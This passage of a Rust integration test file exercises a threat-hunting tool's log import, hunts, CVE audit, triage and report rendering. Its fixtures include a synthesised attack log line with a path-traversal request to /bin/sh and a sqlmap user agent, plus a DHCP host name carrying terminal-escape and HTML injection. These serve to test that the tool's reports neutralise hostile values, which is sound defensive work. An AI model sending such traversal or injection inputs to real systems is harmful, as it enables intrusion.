            panic!("chromium did not finish rendering {} in a minute", page.display());
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    // Requests a page started may still be in flight when the browser exits.
    std::thread::sleep(std::time::Duration::from_millis(500));
}

/// Access-log lines whose user agent, referrer and URI carry the hostile payloads; the user
/// agent of a scanner and a traversal in the path make each one a finding.
fn hostile_access_log(canary: &str) -> String {
    let mut log = String::new();
    for (i, payload) in lasthop_demo::hostile::payloads(canary).iter().enumerate() {
        let quoted = payload.replace('\\', "\\\\").replace('"', "\\\"").replace(['\n', '\r'], " ");
        let in_uri: String = payload
            .chars()
            .take(300)
            .map(|c| match c {
                ' ' => "%20".to_string(),
                '"' => "%22".to_string(),
                c if c.is_control() => format!("%{:02X}", c as u32 & 0xff),
                c => c.to_string(),
            })
            .collect();
        log.push_str(&format!(
            "203.0.113.{} - - [03/Jun/2024:10:{:02}:00 +0000] \"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh?x={in_uri} HTTP/1.1\" 200 512 \"{quoted}\" \"sqlmap/1.7.2#stable (https://sqlmap.org) {quoted}\"\n",
            10 + i,
            i % 60
        ));
    }
    log
}

#[test]
fn reports_of_hostile_values_fetch_nothing_in_a_real_browser() {
    let dir = tempfile::tempdir().unwrap();
    let canary = Canary::start();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    std::fs::write(logs.join("access.log"), hostile_access_log(&canary.url)).unwrap();
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let hunted = dir.path().join("hunt.html");
    let stix = dir.path().join("hunt.stix.json");
    let out = lasthop(&[
        "hunt",
        logs.to_str().unwrap(),
        "--store",
        s,
        "--format",
        "json",
        "--html",
        hunted.to_str().unwrap(),
        "--stix",
        stix.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let findings = findings_of(&out);
    let ids: std::collections::HashSet<&str> =
        findings.iter().map(|f| f["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), findings.len(), "every finding has its own id");
    assert!(
        findings.iter().filter(|f| f["detector"] == "sigma").count() >= 10,
        "each hostile line is a finding: {findings:#?}"
    );
    // A second report, from the store, of findings with a hostile value in every field.
    let planted: String = lasthop_demo::hostile::findings(&canary.url)
        .iter()
        .map(|f| serde_json::to_string(f).unwrap() + "\n")
        .collect();
    std::fs::write(store.join("findings.jsonl"), planted).unwrap();
    let reported = dir.path().join("report.html");
    let out = lasthop(&["report", "--store", s, "--html", reported.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(!text.contains('\x1b') && !text.contains('\u{202e}'), "the table is terminal-safe");

    for page in [&hunted, &reported] {
        let html = std::fs::read_to_string(page).unwrap();
        assert_eq!(lasthop_sinks::html::unsafe_constructs(&html), Vec::<String>::new());
        assert!(html.contains(&canary.url), "the payloads are in the report, as text");
    }

    let Some(browser) = chromium() else {
        assert!(std::env::var_os("CI").is_none(), "CI installs Debian's chromium for this test");
        eprintln!("skipping the browser half: no chromium (apt install chromium)");
        return;
    };
    // The harness can see a fetch: a page that loads an image from the canary is noticed.
    let control = dir.path().join("control.html");
    std::fs::write(&control, format!("<img src=\"{}/control.png\">", canary.url)).unwrap();
    render(browser, &control, &dir.path().join("control.png"), &dir.path().join("profile-0"));
    assert!(
        canary.requests().iter().any(|r| r.contains("/control.png")),
        "the canary must see the control page's fetch: {:?}",
        canary.requests()
    );
    let before = canary.requests().len();
    let artefacts = std::env::var_os("LASTHOP_ARTIFACTS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")));
    std::fs::create_dir_all(&artefacts).unwrap();
    for (i, (page, name)) in
        [(&hunted, "hostile-hunt-report.png"), (&reported, "hostile-report.png")]
            .into_iter()
            .enumerate()
    {
        let screenshot = artefacts.join(name);
        let _ = std::fs::remove_file(&screenshot);
        render(browser, page, &screenshot, &dir.path().join(format!("profile-{}", i + 1)));
        let size = std::fs::metadata(&screenshot).map(|m| m.len()).unwrap_or(0);
        assert!(size > 10_000, "chromium wrote a screenshot of {}", page.display());
        eprintln!("screenshot: {}", screenshot.display());
    }
    let fired = &canary.requests()[before..];
    assert!(fired.is_empty(), "the reports made the browser fetch: {fired:?}");
}

fn audit_fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../audit/tests/fixtures/edge_inventory.csv")
}

#[test]
fn audit_ranks_actions_for_an_inventory_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let csv = audit_fixture();
    let csv = csv.to_str().unwrap();
    let table = lasthop(&["audit", csv, "--today", "2026-11-27"]);
    assert!(table.status.success(), "{}", stderr(&table));
    let text = stdout(&table);
    assert!(stderr(&table).contains("34 device(s) audited"), "{}", stderr(&table));
    assert!(
        text.contains("Replace Cisco RV320 1.4.2.15: CVE-2023-20118 will not be fixed"),
        "{text}"
    );
    assert!(text.contains("cisco rv320 reached end of support"), "both reasons are kept: {text}");
    assert!(text.contains("Patch CVE-2024-21762 on Fortinet FortiGate 60F 7.0.12"), "{text}");
    assert!(
        text.contains("mitigation: Multi-factor authentication on remote access (M1032)"),
        "{text}"
    );
    // Internet-facing, end-of-life or unpatched kit first.
    let first = text.lines().next().unwrap();
    assert!(first.contains("internet-facing"), "{first}");

    let html = dir.path().join("audit.html");
    let jsonl = lasthop(&[
        "audit",
        csv,
        "--today",
        "2026-11-27",
        "--format",
        "ndjson",
        "--html",
        html.to_str().unwrap(),
    ]);
    assert!(jsonl.status.success(), "{}", stderr(&jsonl));
    let documents: Vec<serde_json::Value> =
        stdout(&jsonl).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(documents.len() > 60, "{}", documents.len());
    assert!(documents.iter().all(|d| d["rule"]["id"] == "edge-audit"));
    let kev = documents
        .iter()
        .find(|d| d["threat"]["indicator"]["name"] == "CVE-2024-3400")
        .expect("the PAN-OS patch action names its CVE");
    assert_eq!(kev["destination"]["ip"], "203.0.113.70");
    assert_eq!(kev["lasthop"]["figures"]["kev"]["due_date"], "2024-04-19");
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(page.contains("lasthop edge-device audit"));
    assert_eq!(lasthop_sinks::html::unsafe_constructs(&page), Vec::<String>::new());

    let bad = dir.path().join("bad.csv");
    std::fs::write(&bad, "hostname,colour\nrouter-1,blue\n").unwrap();
    let refused = lasthop(&["audit", bad.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(3), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("bad.csv:1")
            && stderr(&refused).contains("no vendor or model column")
    );
    assert_eq!(lasthop(&["audit"]).status.code(), Some(2));
    assert_eq!(lasthop(&["audit", csv, "--today", "yesterday"]).status.code(), Some(2));
}

/// A Zeek TSV header for `path` with the given tab-separated field names and types.
fn zeek_header(path: &str, fields: &str, types: &str) -> String {
    format!(
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t{path}\n#fields\t{fields}\n#types\t{types}\n"
    )
}

#[test]
fn audit_finds_edge_devices_the_store_saw() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    let mut ssl = zeek_header(
        "ssl",
        "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tserver_name\testablished\tcert_chain_fps",
        "time\tstring\taddr\tport\taddr\tport\tstring\tbool\tvector[string]",
    );
    for i in 0..5 {
        ssl.push_str(&format!(
            "{}.0\tCssl{i}\t10.0.0.{}\t5{i}000\t10.0.0.1\t443\t-\tT\tfp-forti\n",
            1_717_372_800 + i * 60,
            20 + i
        ));
    }
    // An ordinary internal web server: its certificate names no device.
    ssl.push_str(
        "1717373000.0\tCweb\t10.0.0.30\t50100\t10.0.0.2\t443\tintranet.example\tT\tfp-web\n",
    );
    std::fs::write(logs.join("ssl.log"), ssl).unwrap();
    let mut x509 = zeek_header(
        "x509",
        "ts\tfingerprint\tcertificate.subject\tcertificate.issuer",
        "time\tstring\tstring\tstring",
    );
    x509.push_str("1717372800.0\tfp-forti\tCN=FGT60F0000000001,OU=FortiGate,O=Fortinet,L=Sunnyvale,ST=California,C=US\tCN=FGT60F0000000001,OU=FortiGate,O=Fortinet,L=Sunnyvale,ST=California,C=US\n");
    x509.push_str("1717373000.0\tfp-web\tCN=intranet.example,O=Example Ltd\tCN=Example CA\n");
    std::fs::write(logs.join("x509.log"), x509).unwrap();
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    assert!(lasthop(&["import", logs.to_str().unwrap(), "--store", s]).status.success());
    let out = lasthop(&["audit", "--store", s, "--today", "2026-11-27", "--format", "json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let findings = findings_of(&out);
    assert!(!findings.is_empty());
    assert!(
        findings.iter().all(|f| f["entities"]["destination"] == "10.0.0.1"),
        "only the FortiGate: {findings:#?}"
    );
    // No version from a certificate: FortiOS's known-exploited CVEs are to be checked.
    assert!(
        findings.iter().any(|f| f["evidence"]["figures"]["cves"]
            .as_array()
            .is_some_and(|c| c.iter().any(|c| c == "CVE-2018-13379"))),
        "{findings:#?}"
    );
    let identity = &findings[0]["evidence"]["figures"]["identity"];
    assert_eq!(identity["vendor"], "fortinet");
    assert!(
        identity["evidence"][0].as_str().unwrap().contains("certificate subject"),
        "{identity:#}"
    );
}

#[test]
fn intel_update_keeps_a_good_kev_catalogue_and_nothing_else() {
    use std::io::{Read, Write};
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let catalogue = r#"{"title":"test","catalogVersion":"2099.01.01","dateReleased":"2099-01-01T00:00:00Z","count":1,"vulnerabilities":[
      {"cveID":"CVE-2099-0001","vendorProject":"Cisco","product":"RV320","vulnerabilityName":"Test","dateAdded":"2099-01-01",
       "shortDescription":"x","requiredAction":"Apply updates.","dueDate":"2099-01-21","knownRansomwareCampaignUse":"Unknown","notes":"","cwes":[]}]}"#;
    // A one-shot HTTP server on loopback: the catalogue, then garbage.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/kev.json", listener.local_addr().unwrap());
    let bodies = [catalogue.to_string(), "not json".to_string()];
    std::thread::spawn(move || {
        for (stream, body) in listener.incoming().zip(bodies) {
            let mut stream = stream.unwrap();
            let mut buf = [0u8; 2048];
            let _ = stream.read(&mut buf);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    let update =
        lasthop(&["intel", "update", "--kev-url", &url, "--data-dir", data.to_str().unwrap()]);
    assert!(update.status.success(), "{}", stderr(&update));
    assert!(
        stdout(&update).contains("KEV catalogue 2099.01.01 (1 entries)"),
        "{}",
        stdout(&update)
    );
    let kept = data.join("kev/known_exploited_vulnerabilities.json");
    assert!(kept.exists());
    let garbage =
        lasthop(&["intel", "update", "--kev-url", &url, "--data-dir", data.to_str().unwrap()]);
    assert_eq!(garbage.status.code(), Some(3), "{}", stderr(&garbage));
    assert!(
        std::fs::read_to_string(&kept).unwrap().contains("2099.01.01"),
        "a bad download replaces nothing"
    );
    let audit = Command::new(env!("CARGO_BIN_EXE_lasthop"))
        .args(["audit", audit_fixture().to_str().unwrap(), "--today", "2026-11-27"])
        .env("LASTHOP_DATA", &data)
        .output()
        .unwrap();
    assert!(stderr(&audit).contains("KEV catalogue 2099.01.01"), "{}", stderr(&audit));
    assert!(stdout(&audit).contains("CVE-2099-0001"), "the fetched catalogue is used");
    let offline = lasthop(&[
        "intel",
        "update",
        "--kev-url",
        "http://127.0.0.1:9/kev.json",
        "--data-dir",
        data.to_str().unwrap(),
    ]);
    assert_eq!(offline.status.code(), Some(3));
    assert!(stderr(&offline).contains("bundled catalogue stays in use"), "{}", stderr(&offline));
}

/// A lasthop cluster on loopback: a scheduler and two executors, each its own process, stopped
/// when dropped.
#[cfg(feature = "cluster")]
struct LoopbackCluster {
    processes: Vec<std::process::Child>,
    scheduler_port: u16,
    logs: tempfile::TempDir,
}

#[cfg(feature = "cluster")]
impl LoopbackCluster {
    fn free_port() -> u16 {
        std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
    }

    fn spawn(&mut self, name: &str, args: &[String]) {
        let log = std::fs::File::create(self.logs.path().join(format!("{name}.log"))).unwrap();
        let child = Command::new(env!("CARGO_BIN_EXE_lasthop"))
            .args(args)
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap();
        self.processes.push(child);
    }

    fn start() -> LoopbackCluster {
        let mut cluster = LoopbackCluster {
            processes: Vec::new(),
            scheduler_port: Self::free_port(),
            logs: tempfile::tempdir().unwrap(),
        };
        let scheduler = format!("127.0.0.1:{}", cluster.scheduler_port);
        cluster.spawn(
            "scheduler",
            &["cluster".into(), "scheduler".into(), "--bind".into(), scheduler.clone()],
        );
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while std::net::TcpStream::connect(&scheduler).is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "the scheduler did not start: {}",
                cluster.log("scheduler")
            );
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        for i in 0..2 {
            let work = cluster.logs.path().join(format!("work{i}"));
            std::fs::create_dir_all(&work).unwrap();
            let args: Vec<String> = [
                "cluster",
                "executor",
                "--scheduler",
                &scheduler,
                "--port",
                &Self::free_port().to_string(),
                "--grpc-port",
                &Self::free_port().to_string(),
                "--concurrent-tasks",
                "2",
                "--work-dir",
                work.to_str().unwrap(),
            ]
            .iter()
            .map(|s| s.to_string())
            .collect();
            cluster.spawn(&format!("executor{i}"), &args);
        }
        cluster
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.logs.path().join(format!("{name}.log"))).unwrap_or_default()
    }

    fn logs(&self) -> String {
        ["scheduler", "executor0", "executor1"]
            .iter()
            .map(|n| format!("--- {n}\n{}", self.log(n)))
            .collect()
    }
}

#[cfg(feature = "cluster")]
impl Drop for LoopbackCluster {
    fn drop(&mut self) {
        for p in &mut self.processes {
            let _ = p.kill();
            let _ = p.wait();
        }
    }
}

/// Runs `lasthop` with a time limit, so that a stuck cluster fails the test instead of hanging.
#[cfg(feature = "cluster")]
fn lasthop_within(args: &[&str], limit: std::time::Duration) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_lasthop"))
        .args(args)
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    // Both pipes drained as the child writes: a full pipe would block it and look like a hang.
    let drain = |mut pipe: Box<dyn std::io::Read + Send>| {
        std::thread::spawn(move || {
            let mut out = Vec::new();
            std::io::Read::read_to_end(&mut pipe, &mut out).unwrap();
            out
        })
    };
    let stdout = drain(Box::new(child.stdout.take().unwrap()));
    let stderr = drain(Box::new(child.stderr.take().unwrap()));
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("lasthop {args:?} did not finish within {limit:?}");
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    let mut output = child.wait_with_output().unwrap();
    output.stdout = stdout.join().unwrap();
    output.stderr = stderr.join().unwrap();
    output
}

#[cfg(feature = "cluster")]
#[test]
fn a_hunt_on_a_loopback_cluster_finds_what_the_embedded_hunt_finds() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().to_str().unwrap();
    let demo = lasthop(&["demo", "--out", out, "--hosts", "30", "--days", "4", "--format", "json"]);
    assert!(demo.status.success(), "{}", stderr(&demo));
    let store = dir.path().join("store");
    let iocs = dir.path().join("logs/iocs.txt");
    let hunt = |cluster: Option<String>| {
        let mut args = vec![
            "hunt".to_string(),
            "--store".into(),
            store.to_str().unwrap().into(),
            "--ioc-file".into(),
            iocs.to_str().unwrap().into(),
            "--format".into(),
            "json".into(),
        ];
        if let Some(url) = cluster {
            args.extend(["--cluster".into(), url]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        lasthop_within(&args, std::time::Duration::from_secs(900))
    };
    let embedded = hunt(None);
    assert!(embedded.status.success(), "{}", stderr(&embedded));

    let cluster = LoopbackCluster::start();
    let distributed = hunt(Some(format!("df://127.0.0.1:{}", cluster.scheduler_port)));
    assert!(distributed.status.success(), "{}\n{}", stderr(&distributed), cluster.logs());
    // The executors did the work: their shuffle files are in their work directories.
    let logs = cluster.logs();
    let files_under = |dir: &Path| -> usize {
        let mut stack = vec![dir.to_path_buf()];
        let mut n = 0;
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                if e.path().is_dir() { stack.push(e.path()) } else { n += 1 }
            }
        }
        n
    };
    let shuffled: Vec<usize> =
        (0..2).map(|i| files_under(&cluster.logs.path().join(format!("work{i}")))).collect();
    assert!(shuffled.iter().sum::<usize>() > 0, "no executor wrote shuffle files\n{logs}");
    eprintln!("shuffle files per executor: {shuffled:?}");

    let by_id = |o: &Output| -> std::collections::BTreeMap<String, f64> {
        findings_of(o)
            .iter()
            .map(|f| (f["id"].as_str().unwrap().to_string(), f["score"].as_f64().unwrap()))
            .collect()
    };
    let (embedded, distributed) = (by_id(&embedded), by_id(&distributed));
    assert!(embedded.len() >= 5, "{embedded:?}");
    assert_eq!(
        embedded.keys().collect::<Vec<_>>(),
        distributed.keys().collect::<Vec<_>>(),
        "same findings\n{logs}"
    );
    for (id, score) in &embedded {
        assert!((score - distributed[id]).abs() < 1e-9, "{id}: {score} vs {}", distributed[id]);
    }
}

#[test]
fn rolling_imports_keep_history_and_triage_lasts_across_runs() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let week1 = dir.path().join("week1");
    std::fs::create_dir_all(&week1).unwrap();
    write_conn(&week1, 30, &[]);
    let iocs = dir.path().join("iocs.txt");
    std::fs::write(&iocs, "45.63.1.9\n").unwrap();
    let imported = lasthop(&["import", week1.to_str().unwrap(), "--store", s]);
    assert!(imported.status.success(), "{}", stderr(&imported));
    // An hourly import only imports; the next hunt brings the history up to date.
    assert!(!stderr(&imported).contains("history:"), "{}", stderr(&imported));

    let hunt = |extra: &[&str]| {
        let mut args = vec!["hunt", "--store", s, "--ioc-file", iocs.to_str().unwrap()];
        args.extend_from_slice(extra);
        lasthop(&args)
    };
    let ioc_finding = |o: &Output| {
        findings_of(o)
            .into_iter()
            .find(|f| f["detector"] == "ioc-match" && f["entities"]["destination"] == "45.63.1.9")
    };
    let first = hunt(&["--format", "json"]);
    assert!(stderr(&first).contains("history:"), "{}", stderr(&first));
    let found = ioc_finding(&first).unwrap_or_else(|| panic!("{}", stdout(&first)));
    assert_eq!(found["status"]["recurrence"], "new", "{found:#}");
    let id = found["id"].as_str().unwrap().to_string();
    let second = ioc_finding(&hunt(&["--format", "json"])).unwrap();
    assert_eq!(
        (second["status"]["recurrence"].as_str(), second["status"]["runs"].as_u64()),
        (Some("recurring"), Some(2))
    );

    // Acknowledged by its id's first characters: still reported, marked, note in every format.
    let ack = lasthop(&["triage", &id[..10], "--store", s, "--ack", "--note", "ticket <42> open"]);
    assert!(ack.status.success(), "{}", stderr(&ack));
    let third = ioc_finding(&hunt(&["--format", "json"])).unwrap();
    assert_eq!(third["status"]["triage"]["decision"], "acknowledged");
    assert_eq!(third["status"]["triage"]["note"], "ticket <42> open");
    let table = hunt(&["--format", "table"]);
    assert!(stdout(&table).contains("[ack]"), "{}", stdout(&table));
    let csv = hunt(&["--format", "csv"]);
    assert!(stdout(&csv).contains("acknowledged: ticket <42> open"), "{}", stdout(&csv));

    // Suppressed until a day to come: gone from the hunt and from `report`, and counted.
    let suppress = lasthop(&[
        "triage",
        &id,
        "--store",
        s,
        "--suppress",
        "--until",
        "2999-12-31",
        "--note",
        "sinkholed",
    ]);
    assert!(suppress.status.success(), "{}", stderr(&suppress));
    let hidden = hunt(&["--format", "json"]);
    assert!(ioc_finding(&hidden).is_none(), "{}", stdout(&hidden));
    assert!(stderr(&hidden).contains("1 finding(s) suppressed by triage"), "{}", stderr(&hidden));
    let report = lasthop(&["report", "--store", s, "--format", "json"]);
    assert!(ioc_finding(&report).is_none(), "{}", stdout(&report));
    let listed = lasthop(&["triage", "--store", s, "--list"]);
    assert!(
        stdout(&listed).contains("suppressed") && stdout(&listed).contains("sinkholed"),
        "{}",
        stdout(&listed)
    );
    // A suppression whose day has passed no longer holds; a bad day or id is a usage error.
    lasthop(&["triage", &id, "--store", s, "--suppress", "--until", "2000-01-01"]);
    assert!(ioc_finding(&hunt(&["--format", "json"])).is_some());
    assert_eq!(
        lasthop(&["triage", &id, "--store", s, "--ack", "--until", "31/12/2999"]).status.code(),
        Some(2)
    );
    assert_eq!(lasthop(&["triage", "ffffffffffff", "--store", s, "--ack"]).status.code(), Some(2));

    // A week later, with one day kept: the old records go, the history remembers them.
    let week2 = dir.path().join("week2");
    std::fs::create_dir_all(&week2).unwrap();
    let mut later = String::from(CONN_HEADER);
    for i in 0..5u64 {
        later.push_str(&format!(
            "{}.5\tClater{i}\t10.0.0.5\t4{i}000\t45.63.1.9\t443\ttcp\tssl\t1.5\t300\t1200\tSF\t-\n",
            1_717_372_800 + 10 * 86_400 + i * 3600
        ));
    }
    std::fs::write(week2.join("conn.log"), later).unwrap();
    let rolled = lasthop(&["import", week2.to_str().unwrap(), "--store", s, "--retention", "1"]);
    assert!(rolled.status.success(), "{}", stderr(&rolled));
    assert!(stderr(&rolled).contains("retention: keeping 2024-06-13 on"), "{}", stderr(&rolled));
    let query = |sql: &str| -> Vec<serde_json::Value> {
        let o = lasthop(&["sql", sql, "--store", s, "--format", "json"]);
        assert!(o.status.success(), "{}", stderr(&o));
        serde_json::from_str(&stdout(&o)).unwrap()
    };
    assert_eq!(query("SELECT count(*) AS n FROM conn")[0]["n"], 5);
    let remembered = query(
        "SELECT first_seen, last_seen, records FROM history WHERE kind = 'endpoint' AND dst = '45.63.1.9'",
    );
    assert_eq!(remembered.len(), 1, "{remembered:?}");
    assert!(
        remembered[0]["first_seen"].as_str().unwrap().starts_with("2024-06-03"),
        "{remembered:?}"
    );
    assert!(
        remembered[0]["last_seen"].as_str().unwrap().starts_with("2024-06-13"),
        "{remembered:?}"
    );
    assert_eq!(remembered[0]["records"], 35);
    let new_names = query(
        "SELECT count(*) AS n FROM history WHERE kind = 'pair' AND first_seen >= '2024-06-10'",
    );
    assert_eq!(new_names[0]["n"], 0, "the pair is not new this week: it was seen a week before");
}

const DHCP_HEADER: &str = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdhcp\n\
#fields\tts\tuids\tclient_addr\tserver_addr\tmac\thost_name\tclient_fqdn\tdomain\trequested_addr\tassigned_addr\tlease_time\tclient_message\tserver_message\tmsg_types\tduration\n\
#types\ttime\tset[string]\taddr\taddr\tstring\tstring\tstring\tstring\taddr\taddr\tinterval\tstring\tstring\tvector[string]\tinterval\n";

/// A folder with a dhcp.log of the given (time, mac, host name, address) leases and a conn.log
/// of connections (time, source) to the indicator 45.63.1.9.
fn write_week(dir: &Path, leases: &[(u64, &str, &str, &str)], contacts: &[(u64, &str)]) {
    std::fs::create_dir_all(dir).unwrap();
    let mut dhcp = String::from(DHCP_HEADER);
    for (i, (ts, mac, name, address)) in leases.iter().enumerate() {
        dhcp.push_str(&format!(
            "{ts}.1\tCdhcp{ts}{i}\t-\t10.0.0.1\t{mac}\t{name}\t-\t-\t-\t{address}\t86400.0\t-\t-\tDISCOVER,OFFER,REQUEST,ACK\t0.01\n"
        ));
    }
    std::fs::write(dir.join("dhcp.log"), dhcp).unwrap();
    let mut conn = String::from(CONN_HEADER);
    for (ts, src) in contacts {
        conn.push_str(&format!(
            "{ts}.5\tC{ts}\t{src}\t40000\t45.63.1.9\t443\ttcp\tssl\t1.5\t300\t1200\tSF\t-\n"
        ));
    }
    std::fs::write(dir.join("conn.log"), conn).unwrap();
}

#[test]
fn a_machine_keeps_its_findings_and_triage_when_dhcp_gives_it_another_address() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let iocs = dir.path().join("iocs.txt");
    std::fs::write(&iocs, "45.63.1.9\n").unwrap();
    let day = 86_400u64;
    let monday = 1_717_372_800u64; // 2024-06-03
    // Week one: the laptop (a hostile host name, as DHCP clients send what they like) holds
    // 10.0.0.5 and contacts the indicator.
    let laptop = "08:00:27:5e:9a:a6";
    write_week(
        &dir.path().join("week1"),
        &[(monday, laptop, "NWin3\u{1b}[2J<b>", "10.0.0.5")],
        &[(monday + 3600, "10.0.0.5"), (monday + 7200, "10.0.0.5")],
    );
    let import = |week: &str| {
        let o = lasthop(&["import", dir.path().join(week).to_str().unwrap(), "--store", s]);
        assert!(o.status.success(), "{}", stderr(&o));
    };
    let week1 = dir.path().join("week1");
    let bad_limit =
        lasthop(&["import", week1.to_str().unwrap(), "--store", s, "--memory-limit", "lots"]);
    assert_eq!(bad_limit.status.code(), Some(2), "{}", stderr(&bad_limit));
    import("week1");
    let hunt = |extra: &[&str]| {
        let mut args = vec!["hunt", "--store", s, "--ioc-file", iocs.to_str().unwrap()];
        args.extend_from_slice(extra);
        lasthop(&args)
    };
    let ioc_findings = |o: &Output| -> Vec<serde_json::Value> {
        findings_of(o).into_iter().filter(|f| f["detector"] == "ioc-match").collect()
    };
    let first = ioc_findings(&hunt(&["--format", "json"]));
    assert_eq!(first.len(), 1, "{first:#?}");
    let host = &first[0]["entities"]["host"];
    assert_eq!(host["id"], format!("mac:{laptop}"), "{host:#}");
    assert_eq!((host["address"].as_str(), host["via"].as_str()), (Some("10.0.0.5"), Some("dhcp")));
    let id = first[0]["id"].as_str().unwrap().to_string();
    let ack = lasthop(&["triage", &id, "--store", s, "--ack", "--note", "reimage booked"]);
    assert!(ack.status.success(), "{}", stderr(&ack));

    // Week two: the laptop now holds 10.0.0.77, and a phone was given 10.0.0.5. The leases
    // date from before the `--since 2d` window, and still say who holds the addresses in it.
    let later = monday + 9 * day;
    let contacts = later + 3 * day;
    write_week(
        &dir.path().join("week2"),
        &[(later, laptop, "NWin3", "10.0.0.77"), (later, "aa:bb:cc:00:00:01", "phone", "10.0.0.5")],
        &[(contacts + 3600, "10.0.0.77"), (contacts + 7200, "10.0.0.5")],
    );
    import("week2");
    let second = ioc_findings(&hunt(&["--format", "json", "--since", "2d"]));
    let of = |address: &str| {
        second
            .iter()
            .find(|f| f["entities"]["source"] == address)
            .unwrap_or_else(|| panic!("no finding for {address}: {second:#?}"))
    };
    let moved = of("10.0.0.77");
    assert_eq!(moved["id"], id.as_str(), "the laptop's finding keeps its id: {moved:#}");
    assert_eq!(moved["status"]["recurrence"], "recurring");
    assert_eq!(moved["status"]["triage"]["note"], "reimage booked");
    let phone = of("10.0.0.5");
    assert_ne!(phone["id"], id.as_str(), "the address's new holder is another finding");
    assert_eq!(phone["entities"]["host"]["id"], "mac:aa:bb:cc:00:00:01");

    // An asset list names the laptop; the hostile DHCP name never reaches the terminal raw.
    let assets = dir.path().join("assets.csv");
    std::fs::write(&assets, format!("ip,hostname,mac\n10.9.9.9,fin-laptop-07,{laptop}\n")).unwrap();
    let named = hunt(&["--format", "json", "--since", "2d", "--assets", assets.to_str().unwrap()]);
    let named = ioc_findings(&named);
    let laptop_finding = named.iter().find(|f| f["entities"]["source"] == "10.0.0.77").unwrap();
    assert_eq!(laptop_finding["entities"]["host"]["name"], "fin-laptop-07");
    assert_eq!(laptop_finding["id"], id.as_str());
    let detail = lasthop(&["show", &id, "--store", s]);
    assert!(detail.status.success(), "{}", stderr(&detail));
    assert!(stdout(&detail).contains("host"), "{}", stdout(&detail));
    assert!(!stdout(&detail).contains('\u{1b}'), "{}", stdout(&detail));
}

/// RITA's threat-intel test feed (`rita/threat_intel_feed.txt`: two addresses, two domains) is
/// flagged as RITA's own test expects. The capture it is matched against there (dnscat2's conn and
/// dns logs) is not available, so its contacts are replicated — each indicator once, beside a
/// control that must not match — and the real feed is given to `--ioc-file`.
#[test]
fn ritas_threat_intel_feed_flags_all_four_of_its_indicators() {
    let Some(feed) = shared("zeek/rita/threat_intel_feed.txt") else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut conn = zeek_header(
        "conn",
        "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state",
        "time\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring",
    );
    let contacts = [
        ("192.168.88.2", "165.227.88.15", 53),
        ("10.55.100.104", "24.220.113.36", 443),
        ("10.55.100.105", "8.8.8.8", 53),
    ];
    for (i, (src, dst, port)) in contacts.iter().enumerate() {
        let ts = 1_517_336_100 + i * 60;
        conn +=
            &format!("{ts}.0\tCc{i}\t{src}\t4000{i}\t{dst}\t{port}\ttcp\t-\t1.0\t100\t100\tSF\n");
    }
    let mut dns = zeek_header(
        "dns",
        "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype_name\trcode_name\tanswers",
        "time\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\tstring\tvector[string]",
    );
    for (i, query) in
        ["a1b2c3.dnsc.r-1x.com", "0.gravatar.com", "www.microsoft.com"].iter().enumerate()
    {
        let ts = 1_517_336_100 + i * 30;
        dns += &format!(
            "{ts}.0\tCd{i}\t10.55.100.111\t5300{i}\t10.55.200.10\t53\tudp\t{i}\t{query}\tA\tNOERROR\t20.70.1.{i}\n"
        );
    }
    std::fs::write(dir.path().join("conn.log"), conn).unwrap();
